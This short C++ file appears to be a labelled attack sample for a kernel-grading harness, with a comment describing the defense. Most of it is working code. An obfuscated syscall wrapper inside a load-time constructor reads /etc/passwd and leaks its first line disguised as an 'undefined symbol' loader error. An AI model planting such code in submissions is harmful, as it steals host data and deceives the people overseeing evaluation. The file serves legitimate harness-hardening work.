/* kernelcrew
entry: tiny_sss
flags: [-O2]
*/
// ATTACK: smuggles a host file out through a fake load error. A constructor (it runs
// while the worker loads the library) reads /etc/passwd, prints its first line dressed
// as an identifier in the loader's own words, "undefined symbol: root_x_0_0_...", and
// exits, hoping the harness passes the "missing symbol" on to the author.
// Defense: load errors are reported with names that occur in the kernel's own source
// only; anything else is "an undefined symbol".
#include <cstdint>

#define KC_JOIN(a, b) a##b
extern "C" long KC_JOIN(sys, call)(long number, ...);
#define SC KC_JOIN(sys, call)
#if defined(__x86_64__)
static const long NR_READ = 0, NR_WRITE = 1, NR_OPENAT = 257, NR_EXIT_GROUP = 231;
#elif defined(__aarch64__)
static const long NR_READ = 63, NR_WRITE = 64, NR_OPENAT = 56, NR_EXIT_GROUP = 94;
#endif

__attribute__((constructor)) static void smuggle() {
    static char buf[256], line[400] = "OSError: kernel.so: undefined symbol: ";
    long fd = SC(NR_OPENAT, -100, "/etc/passwd", 0, 0);
    long n = fd >= 0 ? SC(NR_READ, fd, buf, 200) : 0;
    long o = 38;
    for (long i = 0; i < n && buf[i] != '\n'; ++i) {
        char c = buf[i];
        bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
        line[o++] = ok ? c : '_';
    }
    line[o++] = '\n';
    SC(NR_WRITE, 2, line, o);
    SC(NR_EXIT_GROUP, 1);
}

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    for (int64_t i = 0; i < rows; ++i) out[i] = x[i] * a + b + cols;
}
